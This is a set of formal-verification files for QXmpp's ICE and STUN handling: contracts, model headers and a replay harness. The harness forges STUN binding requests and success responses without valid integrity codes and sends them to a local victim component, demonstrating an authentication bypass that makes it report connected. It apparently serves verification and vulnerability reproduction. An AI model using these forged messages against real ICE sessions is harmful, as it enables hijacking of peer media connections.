/* C15: contracts of the QXmpp callees of handleDatagram that are REPLACED (not lowered here); every one is listed in the evidence.
 *
 * QXmppStunMessage::peekType and ::decode are verified byte by byte in unit C14; what is used here is the abstraction of
 * C14's postconditions over the opaque datagram value:
 *   peekType : a non-zero result is the header's type field, cookie and id are the header's (C14/peekType/post.type_cookie_id_are_header_fields)
 *   decode   : accepted  AND  the attribute loop met a MESSAGE-INTEGRITY attribute (HAS_MI)  AND  key non-empty
 *              ==>  the attribute equals HMAC-SHA1(key, protected prefix)        (C14/QXmppStunMessage_decode/post.integrity_*)
 *              -- this conjunction is what the postconditions of handleDatagram call "authenticated under key".
 *              accepted under a non-empty key ==> HAS_MI   (C14/QXmppStunMessage_decode/post.accepted_under_a_key_only_with_a_verified_integrity_attribute;
 *              clause DECODE_REQUIRES_INTEGRITY_WITH_KEY below, switched on by unit.py DECODE_FIXED since the repair of decode in /repo)
 *              an accepted message carries the header's type and transaction id (m_type, m_id)
 *                                                   (C14/QXmppStunMessage_decode/post.accepted_message_carries_the_header_type_cookie_and_transaction_id)
 *   decode itself is NOT lowered in this unit: a change inside decode is decided by `verif check C14`. */
quint16 QXmppStunMessage_peekType(qba buffer, quint32 *cookie, qba *id)
__CPROVER_assigns(*cookie, *id)
__CPROVER_ensures(__CPROVER_return_value != 0 ==> (__CPROVER_return_value == HDR_TYPE(buffer) && *cookie == __CPROVER_uninterpreted_stun_hdr_cookie(buffer) && *id == HDR_ID(buffer)))
;
bool QXmppStunMessage_decode(QXmppStunMessage *self, qba buffer, qba key, QStringList *errors)
__CPROVER_requires(gh_dec_calls < 1000)
__CPROVER_assigns(*self, *errors, gh_dec_calls, gh_dec_buf, gh_dec_key, gh_dec_ok, gh_dec_use_candidate, gh_dec_priority)
__CPROVER_ensures(gh_dec_calls == __CPROVER_old(gh_dec_calls) + 1 && gh_dec_buf == buffer && gh_dec_key == key && gh_dec_ok == __CPROVER_return_value)
__CPROVER_ensures(__CPROVER_return_value ==> (self->m_type == HDR_TYPE(buffer) && self->m_id == HDR_ID(buffer)))
__CPROVER_ensures(errors->n >= 0 && gh_dec_use_candidate == self->useCandidate && gh_dec_priority == self->m_priority)
#ifdef DECODE_REQUIRES_INTEGRITY_WITH_KEY   /* unit.py DECODE_FIXED: only once decode itself rejects a keyed message without MESSAGE-INTEGRITY (suggested_fix.diff) */
__CPROVER_ensures((__CPROVER_return_value && key != 0) ==> HAS_MI(buffer))
#endif
;
/* "this message was authenticated under the password pw": decode was called once, on this datagram, with key = UTF-8(pw), pw non-empty,
   accepted it, and the datagram carries a MESSAGE-INTEGRITY attribute (which decode then has verified under that key, C14) */
#define AUTH_UNDER(pw, buf) (gh_dec_calls == 1 && gh_dec_ok && gh_dec_buf == (buf) && (pw) != 0 && gh_dec_key == UTF8(pw) && HAS_MI(buf))

/* QXmppIceComponentPrivate::writeStun: verified on its own (units/C15/ws.spec); handleDatagram uses that very contract */
/* QXmppIceComponentPrivate::performCheck: verified on its own (units/C15/pc.spec); handleDatagram uses that very contract */
/* QXmppStunTransaction::request(): the request the transaction was created with; its id is a function of the transaction object */
#define TX_ID(tx) __CPROVER_uninterpreted_tx_request_id(tx)
void QXmppStunTransaction_request(const QXmppStunTransaction *self, QXmppStunMessage *_ret)
__CPROVER_assigns(*_ret)
__CPROVER_ensures(_ret->m_id == TX_ID(self))
;
/* QXmppStunTransaction::readStun(msg): a response/error completes the transaction: it emits finished(), which runs the slot
   QXmppIceComponent::transactionFinished SYNCHRONOUSLY (direct connection made in the transaction's constructor).  That slot updates the pair
   owning the transaction (reflexive address, state Succeeded/Failed, nominated if nominating, transaction = nullptr) or, for a STUN-server
   transaction, the local candidates / the transaction map / the gathering state.  All of that is allowed here (over-approximated as "any value");
   gh_d is the component's private object (fixed by handleDatagram's precondition). */
struct QXmppIceComponentPrivate *gh_d;
void QXmppStunTransaction_readStun(QXmppStunTransaction *self, const QXmppStunMessage *response)
__CPROVER_requires(gh_rs_calls < 1000)
__CPROVER_assigns(gh_rs_calls, gh_rs_tx, gh_rs_type, gh_rs_id, gh_d->localCandidates, gh_d->stunTransactions, gh_d->gatheringState, *gh_d->pairs.other; gh_d->pairs.w->transaction == self: gh_d->pairs.w->nominated, gh_d->pairs.w->m_state, gh_d->pairs.w->reflexive, gh_d->pairs.w->transaction)
__CPROVER_ensures(gh_rs_calls == __CPROVER_old(gh_rs_calls) + 1 && gh_rs_tx == self && gh_rs_type == response->m_type && gh_rs_id == response->m_id)
__CPROVER_ensures(0 <= gh_d->pairs.w->m_state && gh_d->pairs.w->m_state <= 4 && 0 <= gh_d->pairs.other->m_state && gh_d->pairs.other->m_state <= 4)
__CPROVER_ensures(0 <= gh_d->localCandidates.n && gh_d->localCandidates.n <= LIST_MAX && 0 <= gh_d->stunTransactions.n && gh_d->stunTransactions.n <= LIST_MAX)
;
