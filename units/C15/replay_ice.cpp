// native replay for C15/handleDatagram: an attacker who knows NEITHER ICE password talks to a real QXmppIceComponent over loopback UDP.
//   replay_ice decode      : QXmppStunMessage::decode accepts a binding request without MESSAGE-INTEGRITY under a non-empty key
//   replay_ice ice none    : forged request + forged response WITHOUT MESSAGE-INTEGRITY  -> component answers, starts a check, reports connected
//   replay_ice ice wrong   : the same messages WITH a MESSAGE-INTEGRITY computed under a wrong key       -> component must stay silent (control)
//   replay_ice ice remotekey: well-formed request (0x0001) protected with the REMOTE password -> must stay silent (control for `type`)
//   replay_ice ice honest   : positive control, two honest agents connect and exchange one datagram each way (exit 0 expected, 3 = they did not)
//   replay_ice ice latenominate: an HONEST controlling peer (knows both passwords): request without USE-CANDIDATE, answers the triggered check, THEN a request
//                                with USE-CANDIDATE for the pair that already Succeeded -> the controlled component must report connected exactly once (exit 0; 1 = it did not)
//   replay_ice ice type    : request with type 0x8001 (top bits set) protected with the REMOTE password  -> processed as a request (key chosen by raw type)
// exit code 1 = the component reacted to the forged traffic (finding reproduced), 0 = it did not, 2 = driver problem
#include <QCoreApplication>
#include <QUdpSocket>
#include <QElapsedTimer>
#include <QHostAddress>
#include <cstdio>
#include <cstring>
#include "QXmppStun.h"
#include "QXmppJingleData.h"
#include "QXmppUtils.h"

static QByteArray forge(quint16 type, const QByteArray &id, const QByteArray &key, bool useCandidate, const QHostAddress &mapped = QHostAddress(), quint16 mappedPort = 0)
{
    QXmppStunMessage m;
    m.setType(type & 0x3fff);
    m.setId(id);
    if ((type & 0x0110) == 0) {
        m.setPriority(1845501695u);
        m.setUsername(QStringLiteral("whoever:whatever"));
        m.iceControlling = QByteArray(8, 'A');
        m.useCandidate = useCandidate;
    } else {
        m.xorMappedHost = mapped;
        m.xorMappedPort = mappedPort;
    }
    QByteArray wire = m.encode(key, false);
    if (type & 0xc000) {
        // set the two top bits of the type field by hand and recompute the integrity over the patched header
        wire[0] = char(quint8(wire[0]) | quint8(type >> 8 & 0xc0));
        if (!key.isEmpty()) {
            const int miOff = wire.size() - 24;
            QByteArray mac = QXmppUtils::generateHmacSha1(key, wire.left(miOff));
            wire.replace(miOff + 4, 20, mac);
        }
    }
    return wire;
}

static void pump(int ms)
{
    QElapsedTimer t;
    t.start();
    while (t.elapsed() < ms) {
        QCoreApplication::processEvents(QEventLoop::AllEvents, 20);
    }
}

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    const QString mode = argc > 1 ? QString::fromLatin1(argv[1]) : QStringLiteral("decode");
    if (mode == QLatin1String("decode")) {
        const QByteArray key("the-session-password-22");
        const QByteArray wire = forge(0x0001, QByteArray(12, 'i'), QByteArray(), true);
        QXmppStunMessage m;
        QStringList errors;
        const bool ok = m.decode(wire, key, &errors);
        printf("decode(request without MESSAGE-INTEGRITY, key=\"%s\") = %s, useCandidate=%d, errors=%d\n", key.constData(), ok ? "true" : "false", int(m.useCandidate), int(errors.size()));
        const QByteArray wire2 = forge(0x0001, QByteArray(12, 'i'), QByteArray("some-other-key"), true);
        QXmppStunMessage m2;
        const bool ok2 = m2.decode(wire2, key, &errors);
        printf("decode(request with MESSAGE-INTEGRITY under another key, key) = %s   (control: must be false)\n", ok2 ? "true" : "false");
        return (ok && !ok2) ? 1 : 0;
    }
    const QString variant = argc > 2 ? QString::fromLatin1(argv[2]) : QStringLiteral("none");
    if (variant == QLatin1String("honest")) {
        // positive control: two honest agents that exchanged credentials and candidates both reach connected and carry a datagram each way
        QXmppIceConnection a, b;
        a.addComponent(1);
        b.addComponent(1);
        a.setIceControlling(true);
        b.setIceControlling(false);
        if (!a.bind({ QHostAddress(QHostAddress::LocalHost) }) || !b.bind({ QHostAddress(QHostAddress::LocalHost) })) {
            return 2;
        }
        a.setRemoteUser(b.localUser());
        a.setRemotePassword(b.localPassword());
        b.setRemoteUser(a.localUser());
        b.setRemotePassword(a.localPassword());
        for (const auto &c : a.localCandidates()) {
            b.addRemoteCandidate(c);
        }
        for (const auto &c : b.localCandidates()) {
            a.addRemoteCandidate(c);
        }
        QByteArray gotA, gotB;
        QObject::connect(a.component(1), &QXmppIceComponent::datagramReceived, [&](const QByteArray &d) { gotA = d; });
        QObject::connect(b.component(1), &QXmppIceComponent::datagramReceived, [&](const QByteArray &d) { gotB = d; });
        a.connectToHost();
        b.connectToHost();
        QElapsedTimer t;
        t.start();
        while (t.elapsed() < 5000 && !(a.isConnected() && b.isConnected())) {
            pump(50);
        }
        const bool both = a.isConnected() && b.isConnected();
        if (both) {
            a.component(1)->sendDatagram(QByteArray("\x80 from a to b", 14));
            b.component(1)->sendDatagram(QByteArray("\x80 from b to a", 14));
            pump(300);
        }
        const bool carried = gotB == QByteArray("\x80 from a to b", 14) && gotA == QByteArray("\x80 from b to a", 14);
        printf("[honest] both agents connected: %s; datagrams carried unchanged in both directions: %s\n", both ? "yes" : "NO", carried ? "yes" : "NO");
        return (both && carried) ? 0 : 3;
    }

    // the victim: a real ICE connection with one component on 127.0.0.1, controlled role, credentials of an honest peer configured
    QXmppIceConnection victim;
    victim.addComponent(1);
    victim.setIceControlling(false);
    victim.setRemoteUser(QStringLiteral("honestpeer"));
    victim.setRemotePassword(QStringLiteral("remote-password-never-told-to-the-attacker"));
    if (!victim.bind({ QHostAddress(QHostAddress::LocalHost) })) {
        printf("driver: cannot bind a loopback UDP port\n");
        return 2;
    }
    quint16 victimPort = 0;
    const auto cands = victim.localCandidates();
    for (const auto &c : cands) {
        if (c.host() == QHostAddress(QHostAddress::LocalHost)) {
            victimPort = c.port();
        }
    }
    if (!victimPort) {
        printf("driver: no loopback candidate\n");
        return 2;
    }
    int connectedSignals = 0;
    QObject::connect(victim.component(1), &QXmppIceComponent::connected, [&]() { connectedSignals++; });

    QUdpSocket attacker;
    if (!attacker.bind(QHostAddress(QHostAddress::LocalHost), 0)) {
        return 2;
    }
    QByteArray key;          // no MESSAGE-INTEGRITY at all
    QByteArray respKey;
    quint16 reqType = 0x0001;
    if (variant == QLatin1String("wrong")) {
        key = respKey = QByteArray("a-guessed-wrong-password");
    } else if (variant == QLatin1String("type")) {
        // the peer's own password (our REMOTE password) on a message whose class bits say "request": RFC 5245 wants the LOCAL password there
        key = QByteArray("remote-password-never-told-to-the-attacker");
        respKey = key;
        reqType = 0x8001;
    } else if (variant == QLatin1String("remotekey")) {
        // control for `type`: a well-formed request (0x0001) protected with the REMOTE password must be refused
        key = QByteArray("remote-password-never-told-to-the-attacker");
        respKey = key;
    }
    const bool late = variant == QLatin1String("latenominate");
    if (late) {
        // the honest peer: requests are protected with the victim's LOCAL password, responses with its REMOTE password
        key = victim.localPassword().toUtf8();
        respKey = QByteArray("remote-password-never-told-to-the-attacker");
    }
    // step 1: binding request (forged variants: with USE-CANDIDATE; latenominate: without)
    attacker.writeDatagram(forge(reqType, QByteArray(12, 'q'), key, !late), QHostAddress(QHostAddress::LocalHost), victimPort);
    bool gotResponse = false, gotCheck = false;
    QByteArray checkId;
    QElapsedTimer t;
    t.start();
    while (t.elapsed() < 1500 && !(gotResponse && gotCheck)) {
        pump(50);
        while (attacker.hasPendingDatagrams()) {
            QByteArray buf(int(attacker.pendingDatagramSize()), 0);
            attacker.readDatagram(buf.data(), buf.size());
            QXmppStunMessage m;
            if (!m.decode(buf, QByteArray())) {
                continue;
            }
            if (m.type() == 0x0101 && m.id() == QByteArray(12, 'q')) {
                gotResponse = true;
            }
            if (m.type() == 0x0001) {
                gotCheck = true;
                checkId = m.id();
            }
        }
    }
    printf("[%s] forged binding request -> binding response sent back: %s; triggered connectivity check towards the attacker: %s\n", qPrintable(variant), gotResponse ? "YES" : "no", gotCheck ? "YES" : "no");
    // step 2: forged success response to the victim's check
    if (gotCheck) {
        attacker.writeDatagram(forge(0x0101, checkId, variant == QLatin1String("none") ? QByteArray() : respKey, false, QHostAddress(QHostAddress::LocalHost), victimPort), QHostAddress(QHostAddress::LocalHost), victimPort);
        pump(500);
    }
    if (late) {
        const bool early = victim.component(1)->isConnected();
        // step 3: the nominating request arrives AFTER the victim's own check has succeeded
        attacker.writeDatagram(forge(0x0001, QByteArray(12, 'n'), key, true), QHostAddress(QHostAddress::LocalHost), victimPort);
        pump(500);
        const bool now = victim.component(1)->isConnected();
        printf("[latenominate] check answered: %s; connected before the USE-CANDIDATE request: %s; after it: isConnected() = %s, connected() emitted %d time(s)\n",
               gotCheck ? "yes" : "NO", early ? "yes" : "no", now ? "TRUE" : "FALSE", connectedSignals);
        return (gotResponse && gotCheck && !early && now && connectedSignals == 1) ? 0 : 1;
    }
    const bool connected = victim.component(1)->isConnected();
    printf("[%s] after a forged binding success response: component->isConnected() = %s, connected() emitted %d time(s)\n", qPrintable(variant), connected ? "TRUE" : "false", connectedSignals);
    return (gotResponse || gotCheck || connected) ? 1 : 0;
}
