/* C15 model: Qt containers / values as ASSUMED models, ghost event log, contracts of the QXmpp callees of
 * QXmppIceComponent::handleDatagram that are replaced (each listed under `assumed` in the evidence).
 *
 * Byte strings (datagram, transaction ids, tie breakers, keys) are OPAQUE VALUES here (DESIGN 5.3): handleDatagram never
 * looks at a byte, it only hands them to peekType / decode / datagramReceived and compares them for equality.  What the
 * codec does with the bytes is C14's subject; this unit uses C14's results as the contract of decode (below).           */
qba nondet_qba(void);
/* A-UTF8: QString::toUtf8 is a function of the string; the result is empty iff the string is empty */
qba __CPROVER_uninterpreted_utf8(qstr s);
static inline qba qstr_toUtf8(qstr s) { if (s == 0) return 0; qba r = __CPROVER_uninterpreted_utf8(s); __CPROVER_assume(r != 0); return r; }
#define UTF8(s) ((s) == 0 ? 0 : __CPROVER_uninterpreted_utf8(s))
int __CPROVER_uninterpreted_qba_size(qba b);
static inline int qba_size(qba b) { if (b == 0) return 0; int n = __CPROVER_uninterpreted_qba_size(b); __CPROVER_assume(n > 0); return n; }
/* QByteArray(n, ch): empty for n <= 0, otherwise a value determined by (n, ch) */
qba __CPROVER_uninterpreted_qba_filled(int n, char ch);
static inline qba qba_filled(int n, char ch) { if (n <= 0) return 0; qba r = __CPROVER_uninterpreted_qba_filled(n, ch); __CPROVER_assume(r != 0); return r; }
/* QXmppUtils::generateRandomBytes(n): some byte string, non-empty for n > 0 */
static inline qba qba_random(int n) { if (n <= 0) return 0; qba r = nondet_qba(); __CPROVER_assume(r != 0); return r; }
/* QXmppUtils::generateStanzaHash(n) / QString::arg(...): some non-empty string */
static inline qstr qstr_fresh_nonempty(void) { qstr s = nondet_qstr(); __CPROVER_assume(s != 0); return s; }

/* ---- the datagram as an abstract STUN packet: functions of the (opaque) byte string -------------------------------------
 * hdr_type / hdr_cookie / hdr_id are the three header fields (what peekType returns, proved in C14/peekType);
 * has_mi(b) : decode's attribute loop reaches a MESSAGE-INTEGRITY attribute in b (C14's ghost gh_saw_mi, a function of b). */
quint16 __CPROVER_uninterpreted_stun_hdr_type(qba b);
quint32 __CPROVER_uninterpreted_stun_hdr_cookie(qba b);
qba     __CPROVER_uninterpreted_stun_hdr_id(qba b);
bool    __CPROVER_uninterpreted_stun_has_mi(qba b);
#define HDR_TYPE(b) __CPROVER_uninterpreted_stun_hdr_type(b)
#define HDR_ID(b)   __CPROVER_uninterpreted_stun_hdr_id(b)
#define HAS_MI(b)   __CPROVER_uninterpreted_stun_has_mi(b)

/* ---- QHostAddress (units/C15/types.h: tagged value); operator== is equality of (protocol, address) ---------------------------------- */
static inline void IceHostAddress_ctor_null(IceHostAddress *h) { h->proto = -1; h->v4 = 0; h->v6hi = 0; h->v6lo = 0; }
static inline bool IceHostAddress_eq(const IceHostAddress *a, const IceHostAddress *b) { return a->proto == b->proto && a->v4 == b->v4 && a->v6hi == b->v6hi && a->v6lo == b->v6lo; }
static inline bool IceHostAddress_ne(const IceHostAddress *a, const IceHostAddress *b) { return !IceHostAddress_eq(a, b); }
static inline void IceHostAddress_assign(IceHostAddress *d, const IceHostAddress *s) { *d = *s; }

/* ---- QXmppJingleCandidate: value record (struct generated from QXmppJingleCandidatePrivate); default constructor -------- */
static inline void QXmppJingleCandidate_ctor(QXmppJingleCandidate *c) { c->component = 0; c->foundation = 0; c->generation = 0; IceHostAddress_ctor_null(&c->host); c->id = 0;
  c->network = 0; c->port = 0; c->protocol = 0; c->priority = 0; c->type = 0 /* HostType */; }
QXmppJingleCandidate nondet_QXmppJingleCandidate(void);
QXmppIceTransport *nondet_transport_ptr(void);
QXmppStunTransaction *nondet_transaction_ptr(void);

/* ---- ghost event log ------------------------------------------------------------------------------------------------ */
void *gh_sender;                                 /* QObject::sender(): the sending transport / transaction, NULL when the sender is not of the kind the slot casts to */
int gh_dec_calls; qba gh_dec_buf; qba gh_dec_key; bool gh_dec_ok; bool gh_dec_use_candidate; quint32 gh_dec_priority;                                   /* decode */
int gh_ws_calls; quint16 gh_ws_type; qba gh_ws_id; QXmppIceTransport *gh_ws_transport; quint16 gh_ws_port; quint16 gh_ws_xport;   /* writeStun */
int gh_pc_calls; const struct CandidatePair *gh_pc_pair; bool gh_pc_nominate;                         /* performCheck */
int gh_rs_calls; QXmppStunTransaction *gh_rs_tx; quint16 gh_rs_type; qba gh_rs_id;                   /* QXmppStunTransaction::readStun */
const struct CandidatePair *gh_req_pair;   /* ghost hook: the pair a (role-consistent) binding request was matched to / created for */
const struct CandidatePair *gh_rs_pair; QXmppStunTransaction *gh_rs_pair_tx; bool gh_rs_pair_src_ok;   /* ghost hook: the pair whose transaction is fed the decoded message */
int gh_connected, gh_dgram, gh_timer_stop; qba gh_dgram_buf;                                         /* signals, timer */
int gh_pairs_appended, gh_pair_new, gh_sort_calls; const struct CandidatePair *gh_pairs_appended_ptr;
QXmppStunTransaction *gh_map_key; QXmppIceTransport *gh_map_transport;   /* last (key, value.transport) the map iteration handed out */

/* ---- QList<CandidatePair *>: symbolic length, ONE witness element at an arbitrary position (DESIGN 5.2/5.5); every other
 *      element is represented by the scratch object `other`, whose content is arbitrary at every access ---------------- */
#define LIST_MAX 100000000
static inline struct CandidatePair *QListPairPtr_at(QListPairPtr *l, int i) {
  if (i == l->wi) return l->w;
  struct CandidatePair *o = l->other;
  o->nominated = nondet_bool(); o->nominating = nondet_bool(); o->remote = nondet_QXmppJingleCandidate(); o->reflexive = nondet_QXmppJingleCandidate();
  o->transport = nondet_transport_ptr(); o->transaction = nondet_transaction_ptr(); o->m_component = nondet_int(); o->m_controlling = nondet_bool();
  int st = nondet_int(); __CPROVER_assume(0 <= st && st <= 4); o->m_state = st;    /* an enum State member holds one of its enumerators */
  return o; }
static inline void QListPairPtr_append(QListPairPtr *l, struct CandidatePair *const *p) { MODEL_LIMIT(l->n < LIST_MAX, "list length"); l->n += 1; gh_pairs_appended += 1; gh_pairs_appended_ptr = *p; }
/* A-SORT std::sort permutes: same length, the witness moves to some position */
static inline void QListPairPtr_sort(QListPairPtr *l) { if (l->wi >= 0 && l->wi < l->n) { int k = nondet_int(); __CPROVER_assume(0 <= k && k < l->n); l->wi = k; } gh_sort_calls += 1; }
/* ---- QList<QXmppJingleCandidate>: same idea, values stored in the model ------------------------------------------------ */
static inline QXmppJingleCandidate *QListCand_at(QListCand *l, int i) { if (i == l->wi) return &l->w; l->other = nondet_QXmppJingleCandidate(); return &l->other; }
static inline void QListCand_append(QListCand *l, const QXmppJingleCandidate *c) { MODEL_LIMIT(l->n < LIST_MAX, "list length"); MODEL_LIMIT(l->appended < 1000, "event counter"); l->n += 1; l->appended += 1; l->last = *c; }
/* ---- QStringList (diagnostics): qtmodel/misc.h {n}; elements are arbitrary strings ---------------------------------------- */
static inline qstr QStringList_at(const QStringList *l, int i) { return nondet_qstr(); }
/* ---- QMap<QXmppStunTransaction *, QXmppIceTransportDetails>: symbolic size; entries are arbitrary (key, value) pairs -------- */
static inline void QMapTx_cbegin(QMapTxIter *r, const QMapTx *m) { r->m = m; r->i = 0; r->k = nondet_transaction_ptr(); r->vt = nondet_transport_ptr(); }
static inline void QMapTx_cend(QMapTxIter *r, const QMapTx *m) { r->m = m; r->i = m->n; r->k = 0; r->vt = 0; }
static inline bool QMapTxIter_ne(const QMapTxIter *a, const QMapTxIter *b) { return a->i != b->i; }
static inline void QMapTxIter_inc(QMapTxIter *a) { MODEL_LIMIT(a->i < a->m->n, "iterator incremented past the end"); a->i += 1; a->k = nondet_transaction_ptr(); a->vt = nondet_transport_ptr(); }
static inline QXmppStunTransaction *QMapTxIter_key(const QMapTxIter *a) { MODEL_LIMIT(a->i < a->m->n, "key() of the end iterator"); gh_map_key = a->k; gh_map_transport = a->vt; return a->k; }
static inline void QMapTxIter_value(QXmppIceTransportDetails *r, const QMapTxIter *a) { MODEL_LIMIT(a->i < a->m->n, "value() of the end iterator"); r->transport = a->vt; r->stunPort = nondet_ushort(); }

/* new QXmppStunTransaction(request, receiver): a fresh transaction (opaque handle) that stores a copy of the request and will send it */
qba __CPROVER_uninterpreted_tx_request_id(const QXmppStunTransaction *tx);
int gh_newtx_calls; QXmppStunTransaction *gh_newtx; quint16 gh_newtx_type; qba gh_newtx_id; bool gh_newtx_use_candidate; qba gh_newtx_controlling, gh_newtx_controlled; quint32 gh_newtx_priority;
static inline QXmppStunTransaction *QXmppStunTransaction_new(const QXmppStunMessage *request) {
  QXmppStunTransaction *t = nondet_transaction_ptr(); __CPROVER_assume(t != 0 && __CPROVER_uninterpreted_tx_request_id(t) == request->m_id);
  MODEL_LIMIT(gh_newtx_calls < 1000, "event counter"); gh_newtx_calls += 1; gh_newtx = t; gh_newtx_type = request->m_type; gh_newtx_id = request->m_id; gh_newtx_use_candidate = request->useCandidate;
  gh_newtx_controlling = request->iceControlling; gh_newtx_controlled = request->iceControlled; gh_newtx_priority = request->m_priority; return t; }

/* ---- Qt signals / timer: event log ------------------------------------------------------------------------------------ */
static inline void ev_connected(void) { MODEL_LIMIT(gh_connected < 1000, "event counter"); gh_connected += 1; }
static inline void ev_datagramReceived(qba buffer) { MODEL_LIMIT(gh_dgram < 1000, "event counter"); gh_dgram += 1; gh_dgram_buf = buffer; }
static inline void QTimer_stop(QTimer *t) { MODEL_LIMIT(gh_timer_stop < 1000, "event counter"); gh_timer_stop += 1; }
/* new CandidatePair(...): a fresh object, then the (lowered, real) constructor runs on it */
void CandidatePair_CandidatePair(struct CandidatePair *self, int component, bool controlling, void *parent);
static inline struct CandidatePair *CandidatePair_new(int component, bool controlling) {
  struct CandidatePair *p = malloc(sizeof(struct CandidatePair)); __CPROVER_assume(p != 0);
  CandidatePair_CandidatePair(p, component, controlling, 0); MODEL_LIMIT(gh_pair_new < 1000, "event counter"); gh_pair_new += 1; return p; }
struct QXmppIceComponentPrivate *nondet_d_ptr(void);
