/* C15 transactionFinished: callees by contract */
quint16 gh_tx_resp_type;      /* type field of the response stored in the finished transaction (what readStun was given, or the timeout error) */
int gh_gathering_updates, gh_lcc_events, gh_map_removed, gh_foundation_calls;
#define TX_SENDER ((QXmppStunTransaction *)gh_sender)
void QXmppStunTransaction_response(const QXmppStunTransaction *self, QXmppStunMessage *_ret)
__CPROVER_assigns(*_ret)
__CPROVER_ensures(_ret->m_type == gh_tx_resp_type)
;
/* computeFoundation (static, MD5 of type/protocol/base address): some non-empty string */
qstr computeFoundation(int type, qstr protocol, const IceHostAddress *baseAddress)
__CPROVER_requires(gh_foundation_calls < 1000)
__CPROVER_assigns(gh_foundation_calls)
__CPROVER_ensures(__CPROVER_return_value != 0 && gh_foundation_calls == __CPROVER_old(gh_foundation_calls) + 1)
;
void QXmppIceComponent_updateGatheringState(QXmppIceComponent *self)
__CPROVER_requires(gh_gathering_updates < 1000)
__CPROVER_assigns(self->d->gatheringState, gh_gathering_updates)
__CPROVER_ensures(gh_gathering_updates == __CPROVER_old(gh_gathering_updates) + 1)
;
/* QMap::value(key): the stored value or a default-constructed one (transport == nullptr); QMap::remove(key): 0 or 1 entries removed */
static inline void QMapTx_value(QXmppIceTransportDetails *r, const QMapTx *m, QXmppStunTransaction *key) { r->transport = nondet_transport_ptr(); r->stunPort = nondet_ushort(); }
static inline int QMapTx_remove(QMapTx *m, QXmppStunTransaction *key) { MODEL_LIMIT(gh_map_removed < 1000, "event counter"); gh_map_removed += 1; if (m->n > 0 && nondet_bool()) { m->n -= 1; return 1; } return 0; }
static inline void ev_localCandidatesChanged(void) { MODEL_LIMIT(gh_lcc_events < 1000, "event counter"); gh_lcc_events += 1; }
#define CLASS_RESPONSE 0x0100
#define TF_SUCCESS (CLASS_OF(gh_tx_resp_type) == CLASS_RESPONSE)
