/* C15 handleDatagram: vocabulary of the contract (units/C15/hd.spec).  The postconditions are taken from the property statement:
   "An ICE component changes its connectivity state (accepts a check as valid, learns a remote candidate, nominates or selects a pair,
    reports connected) only because of STUN messages that carry a valid integrity code under the session's exchanged credentials".
   RFC 5245 7.1.2.3 / 7.2.2: a request is protected with the password of the agent that RECEIVES it (our local password), a response with
   the password the request was protected with (the peer's = our remote password). */
#define D        (self->d)
#define W        (self->d->pairs.w)
#define AUTH_REQ  AUTH_UNDER(self->d->config->localPassword, buffer)    /* authenticated as a request addressed to us */
#define AUTH_RESP AUTH_UNDER(self->d->config->remotePassword, buffer)   /* authenticated as a response to one of our checks */
/* "the message matched one of OUR STUN-server transactions": decode accepted it, and it was handed to a transaction that is a key of
   d->stunTransactions, whose request has the datagram's transaction id and which was sent through the transport the datagram arrived on */
#define OURS (gh_dec_calls == 1 && gh_dec_ok && gh_dec_buf == buffer && gh_rs_calls == 1 && gh_rs_tx == gh_map_key && gh_map_transport == gh_sender && \
              TX_ID(gh_rs_tx) == HDR_ID(buffer) && gh_rs_id == HDR_ID(buffer) && gh_rs_type == HDR_TYPE(buffer))
#define IS_BINDING(t)  (((t) & 0x3eef) == 0x0001)
#define CLASS_OF(t)    ((t) & 0x0110)
#define GHOST_ZERO (gh_dec_calls == 0 && gh_ws_calls == 0 && gh_pc_calls == 0 && gh_rs_calls == 0 && gh_connected == 0 && gh_dgram == 0 && gh_timer_stop == 0 && \
                    gh_pairs_appended == 0 && gh_pair_new == 0 && gh_sort_calls == 0 && gh_rs_pair == 0 && gh_req_pair == 0 && gh_localCandidate_calls == 0 && gh_enc_calls == 0 && gh_wd_calls == 0 && gh_newtx_calls == 0)
#define NO_EFFECT_EVENTS (self->d->remoteCandidates.appended == 0 && gh_ws_calls == 0 && gh_pc_calls == 0 && gh_rs_calls == 0 && gh_connected == 0 && gh_timer_stop == 0 && \
                          gh_pairs_appended == 0 && gh_pair_new == 0 && gh_sort_calls == 0)
/* the selection rule of the "signal completion" step (RFC 5245 8.1.1 / 11.1.1: once a pair is nominated media may flow; QXmpp: the timer stops, the nominated
   pair becomes the active pair unless a selected pair of at least its priority exists, connected() is emitted when the component had no active pair) */
#define SELECTED_IF_NONE_WAS(p) (gh_timer_stop >= 1 && self->d->activePair != NULL && (__CPROVER_old(self->d->activePair) == NULL ==> (self->d->activePair == (p) && gh_connected == 1)))
