/* C15 writeStun: QXmppStunMessage::encode (verified in C14) and the pure virtual QXmppIceTransport::writeDatagram by contract (event log) */
int gh_enc_calls; qba gh_enc_key; quint16 gh_enc_type; qba gh_enc_id; bool gh_enc_fingerprint; qba gh_enc_out;
int gh_wd_calls; QXmppIceTransport *gh_wd_transport; qba gh_wd_data; quint16 gh_wd_port; bool gh_wd_host_is_address; const IceHostAddress *gh_ws_address;
qba QXmppStunMessage_encode(const QXmppStunMessage *self, qba key, bool addFingerprint)
__CPROVER_requires(gh_enc_calls < 1000)
__CPROVER_assigns(gh_enc_calls, gh_enc_key, gh_enc_type, gh_enc_id, gh_enc_fingerprint)
__CPROVER_ensures(gh_enc_calls == __CPROVER_old(gh_enc_calls) + 1 && gh_enc_key == key && gh_enc_type == self->m_type && gh_enc_id == self->m_id && gh_enc_fingerprint == addFingerprint)
__CPROVER_ensures(__CPROVER_return_value == gh_enc_out)
;
long long QXmppIceTransport_writeDatagram(QXmppIceTransport *self, qba data, const IceHostAddress *host, quint16 port)
__CPROVER_requires(gh_wd_calls < 1000)
__CPROVER_assigns(gh_wd_calls, gh_wd_transport, gh_wd_data, gh_wd_port, gh_wd_host_is_address)
__CPROVER_ensures(gh_wd_calls == __CPROVER_old(gh_wd_calls) + 1 && gh_wd_transport == self && gh_wd_data == data && gh_wd_port == port && gh_wd_host_is_address == (host == gh_ws_address))
;
