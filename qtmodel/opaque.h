/* qtmodel/opaque.h -- opaque strings (DESIGN 5.3) and abstract DOM (5.4) : ASSUMED contracts
 *
 * Strings are ids: equality is id equality, 0 is the empty (and null) string, every literal of the lowered text has its own
 * id < STR_FIRST_FREE.  Nothing else is known about a string: startsWith / contains / < are uninterpreted predicates with
 * only the axioms written here.  A proof that needs "a == b" therefore cannot be completed from "a startsWith b".
 *
 * A-DOM: a QDomElement is a node id (0 = null element).  tagName / namespaceURI / attribute / text are (uninterpreted)
 * functions of the node; firstChildElement / nextSiblingElement return the null element or an element whose tag and
 * namespace match the non-empty filters.  The same query gives the same answer (the document does not change). */
